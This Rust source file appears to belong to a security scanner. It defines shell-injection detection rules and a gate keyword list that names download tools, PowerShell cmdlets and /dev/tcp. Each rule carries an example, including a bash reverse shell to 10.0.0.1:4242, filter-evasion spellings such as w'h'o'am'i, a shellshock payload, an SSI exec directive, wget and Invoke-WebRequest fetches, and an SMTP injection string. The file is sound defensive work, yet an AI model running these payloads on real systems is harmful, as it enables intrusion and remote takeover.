//! What is known of shell commands.

use crate::detect::{Class, Rule, Sink};

pub(in crate::detect) static RULES: &[Rule] = &[
    CHAINED,
    SUBSTITUTED,
    LINE,
    PLAIN,
    QUOTED,
    HIDDEN,
    PROGRAM,
    INTERPRETER,
    DOWNLOAD,
    OPTION,
    SOCKET,
    REDIRECTED,
    EXPANSION,
    FUNCTION,
    SERVER_SIDE,
    HISTORY,
    BATCH,
    POWERSHELL,
    MAIL,
];

/// What one of these attacks has in a message.
pub(in crate::detect) const GATE: &[&str] = &[
    ";",
    "|",
    "&",
    "`",
    "$(",
    "${",
    "$ifs",
    "$@",
    "$'",
    "<(",
    ">(",
    "() {",
    "(){",
    "<!--#",
    "/dev/tcp/",
    "/dev/udp/",
    "%comspec%",
    ":~",
    "cmd",
    "powershell",
    "pwsh",
    "iex",
    "webclient",
    "''",
    "\"\"",
    "\\",
    "^",
    "/?",
    "?/",
    "curl",
    "wget",
    "lynx",
    "lwp-",
    "aria2c",
    "iwr",
    "certutil",
    "bitsadmin",
    "axel",
    "w3m",
    "fetch",
    "downloadstring",
    "downloadfile",
    "frombase64",
    "$env:",
    "[char]",
    "alias ",
    "for /",
    "%%",
    "%",
    "--",
    "bin/",
    "/etc/",
    "/var/",
    "/tmp/",
    "/usr/",
    "/home/",
    "/proc/",
    "/dev/",
    "/root/",
    "/opt/",
    "/path/",
    "\nrcpt to:",
    "\nmail from:",
    "\nehlo ",
    "\nhelo ",
    "\nvrfy ",
    "\nexpn ",
    "\nstarttls",
    "\nretr ",
    "\ndele ",
    "\nuidl",
    "\ntop ",
    "\nstat",
    "get-",
    "set-",
    "invoke-",
    "new-",
    "start-",
    "stop-",
    "add-",
    "out-",
    "write-",
    "import-",
    "convertto-",
    "convertfrom-",
    "remove-",
    "test-",
    "select-",
    "where-",
    "foreach-",
    "'a'",
    "'b'",
    "'c'",
    "'d'",
    "'e'",
    "'f'",
    "'g'",
    "'h'",
    "'i'",
    "'j'",
    "'k'",
    "'l'",
    "'m'",
    "'n'",
    "'o'",
    "'p'",
    "'q'",
    "'r'",
    "'s'",
    "'t'",
    "'u'",
    "'v'",
    "'w'",
    "'x'",
    "'y'",
    "'z'",
    "\"a\"",
    "\"b\"",
    "\"c\"",
    "\"d\"",
    "\"e\"",
    "\"f\"",
    "\"g\"",
    "\"h\"",
    "\"i\"",
    "\"j\"",
    "\"k\"",
    "\"l\"",
    "\"m\"",
    "\"n\"",
    "\"o\"",
    "\"p\"",
    "\"q\"",
    "\"r\"",
    "\"s\"",
    "\"t\"",
    "\"u\"",
    "\"v\"",
    "\"w\"",
    "\"x\"",
    "\"y\"",
    "\"z\"",
    " -a",
    " -b",
    " -c",
    " -d",
    " -e",
    " -f",
    " -g",
    " -h",
    " -i",
    " -j",
    " -k",
    " -l",
    " -m",
    " -n",
    " -o",
    " -p",
    " -q",
    " -r",
    " -s",
    " -t",
    " -u",
    " -v",
    " -w",
    " -x",
    " -y",
    " -z",
];

const fn rule(
    id: &'static str,
    reason: &'static str,
    about: &'static str,
    example: &'static str,
) -> Rule {
    Rule {
        id,
        class: Class::Shell,
        sinks: &[Sink::Code],
        strictness: 2,
        message: 2,
        confidence: 80,
        reason,
        about,
        example,
    }
}

pub(super) const CHAINED: Rule = Rule {
    confidence: 85,
    ..rule(
        "shell.chained-command",
        "a command follows an operator that starts one",
        "A shell starts a new command after `;`, `|`, `&`, `&&` and `||`. A text that carries such an operator and the \
         name of a program runs that program as soon as it reaches a shell. Start programs with Argv: without a shell \
         in between, an argument stays an argument.",
        "10.0.0.1; cat /etc/hosts",
    )
};

pub(super) const SUBSTITUTED: Rule = Rule {
    sinks: &[Sink::Code],
    ..rule(
        "shell.command-substitution",
        "a shell would run what is in backquotes or $( )",
        "Backquotes and `$(…)` run a command and put its output in their place, even within double quotes. Start \
         programs with Argv, where both are letters like all others.",
        "$(id)",
    )
};

pub(super) const LINE: Rule = Rule {
    confidence: 60,
    ..rule(
        "shell.command-line",
        "the text is itself a command line",
        "The text starts with a program that is no word of any language, followed by what such programs take. A shell \
         that is given it runs it. Where users may name a command, declare the ones there are with a grammar, and \
         start them with Argv.",
        "netstat -an",
    )
};

pub(super) const PLAIN: Rule = Rule {
    sinks: &[],
    message: 3,
    confidence: 50,
    ..rule(
        "shell.plain-command",
        "the text reads as a command with options or paths",
        "The text starts with the name of a program, which may also be a word, followed by an option, a path or an \
         address. Where users quote commands in prose this may be harmless; for a text that goes to a shell it is not. \
         Start programs with Argv.",
        "cat /var/log/messages",
    )
};

pub(super) const QUOTED: Rule = Rule {
    sinks: &[],
    strictness: 3,
    message: 4,
    confidence: 40,
    ..rule(
        "shell.quoted-command",
        "prose quotes a command",
        "A command stands in quotes within prose, as people write when they talk of it. A shell does not know the \
         difference. Start programs with Argv, where neither matters.",
        "what does `cat x` do with the rest of it",
    )
};

pub(super) const HIDDEN: Rule = Rule {
    strictness: 1,
    confidence: 95,
    ..rule(
        "shell.hidden-command",
        "the name of a command is cut in pieces, or stands in variables or wildcards",
        "A shell drops quotes, backslashes and empty expansions within a name, and completes wildcards: `w'h'o'am'i`, \
         `c\\at`, `/???/c?t` and `cat${IFS}x` all run a program. Nobody writes that but to pass a filter. Start \
         programs with Argv.",
        "w'h'o'am'i",
    )
};

pub(super) const PROGRAM: Rule = Rule {
    message: 3,
    confidence: 70,
    ..rule(
        "shell.program-path",
        "it names a program by its path",
        "A path such as that of a shell below a directory of programs is there to be run. Let users choose from \
         programs that you name, and start them with Argv.",
        "x=/bin/bash",
    )
};

pub(super) const INTERPRETER: Rule = Rule {
    ..rule(
        "shell.interpreter-code",
        "an interpreter is given a program as an argument",
        "`sh -c`, `python -c`, `perl -e` and their like run the text that follows. Start programs with Argv, and do \
         not let users choose an interpreter.",
        "env bash -c id",
    )
};

pub(super) const OPTION: Rule = Rule {
    sinks: &[],
    ..rule(
        "shell.program-option",
        "an option is given by which a program runs another",
        "Options such as `--upload-pack=` or `-oProxyCommand=` name a command that the program starts: no shell is \
         needed for it. Argv takes an argument with a leading hyphen for an option only where you declare that.",
        "--checkpoint-action=exec=id",
    )
};

pub(super) const DOWNLOAD: Rule = rule(
    "shell.download",
    "a program that fetches files is given an address",
    "Fetching the rest of an attack from elsewhere is what most first commands do. Start programs with Argv, and give \
     addresses that users chose to SafeUrl.",
    "wget http://a.example/x",
);

pub(super) const SOCKET: Rule = Rule {
    strictness: 1,
    confidence: 95,
    ..rule(
        "shell.reverse-shell",
        "a shell would be connected to the network",
        "`/dev/tcp/HOST/PORT` is a file name that a shell takes for a connection; together with an interactive shell \
         it hands the machine over. Start programs with Argv.",
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    )
};

pub(super) const REDIRECTED: Rule = Rule {
    message: 3,
    confidence: 70,
    ..rule(
        "shell.redirection",
        "input or output would be redirected",
        "`2>&1`, `> /dev/null` and their like mean something to a shell only. Start programs with Argv.",
        "x 2>&1",
    )
};

pub(super) const EXPANSION: Rule = Rule {
    sinks: &[],
    ..rule(
        "shell.parameter-expansion",
        "a shell would cut letters out of a variable, or compute",
        "`${PATH:0:1}` is a slash and `$((1+1))` is 2: expansions make the letters that a filter forbids. Start \
         programs with Argv, which expands nothing.",
        "cat${PATH:0:1}etc",
    )
};

pub(super) const FUNCTION: Rule = Rule {
    strictness: 1,
    sinks: &[Sink::Code, Sink::Header],
    confidence: 95,
    ..rule(
        "shell.function-in-variable",
        "it defines a function of bash, as shellshock does",
        "Old versions of bash run what follows a function definition in an environment variable. Web servers put \
         headers there. Start programs with Argv, which hands on no environment.",
        "() { :;}; echo x",
    )
};

pub(super) const SERVER_SIDE: Rule = Rule {
    strictness: 1,
    sinks: &[Sink::Code, Sink::Html],
    confidence: 90,
    ..rule(
        "shell.server-side-include",
        "it is a directive of server-side includes",
        "A web server that knows includes runs `<!--#exec cmd=…-->` when it serves the page. Escape text that goes \
         into pages with HtmlEscaped.",
        "<!--#exec cmd=\"id\" -->",
    )
};

pub(super) const HISTORY: Rule = Rule {
    sinks: &[],
    message: 0,
    confidence: 50,
    ..rule(
        "shell.history",
        "an interactive shell would repeat a command from its history",
        "`!-1` and `!7` repeat an earlier command where a text is typed into an interactive shell. Start programs with \
         Argv.",
        "!-1",
    )
};

pub(super) const BATCH: Rule = rule(
    "shell.batch-script",
    "it is a line of a script of Windows",
    "`for /f … do`, `if exist`, `cmd /c` and `%COMSPEC%` mean something to the shell of Windows only, and run \
     programs. Start programs with Argv.",
    "cmd.exe /c dir",
);

pub(super) const POWERSHELL: Rule = rule(
    "shell.powershell",
    "it calls PowerShell",
    "Cmdlets such as Invoke-Expression, encoded commands and web clients are what PowerShell runs. Start programs with \
     Argv, and do not let users choose an interpreter.",
    "Invoke-WebRequest http://a.example/x.ps1",
);

pub(super) const MAIL: Rule = Rule {
    sinks: &[Sink::Header],
    confidence: 70,
    ..rule(
        "shell.mail-command",
        "a line break is followed by a command of a mail server",
        "SMTP, IMAP and POP3 take one command a line: a line break in a text that goes into such a conversation starts \
         a command of the sender's choice. HeaderSafe refuses line breaks.",
        "x\r\nRCPT TO:<a@a.example>",
    )
};
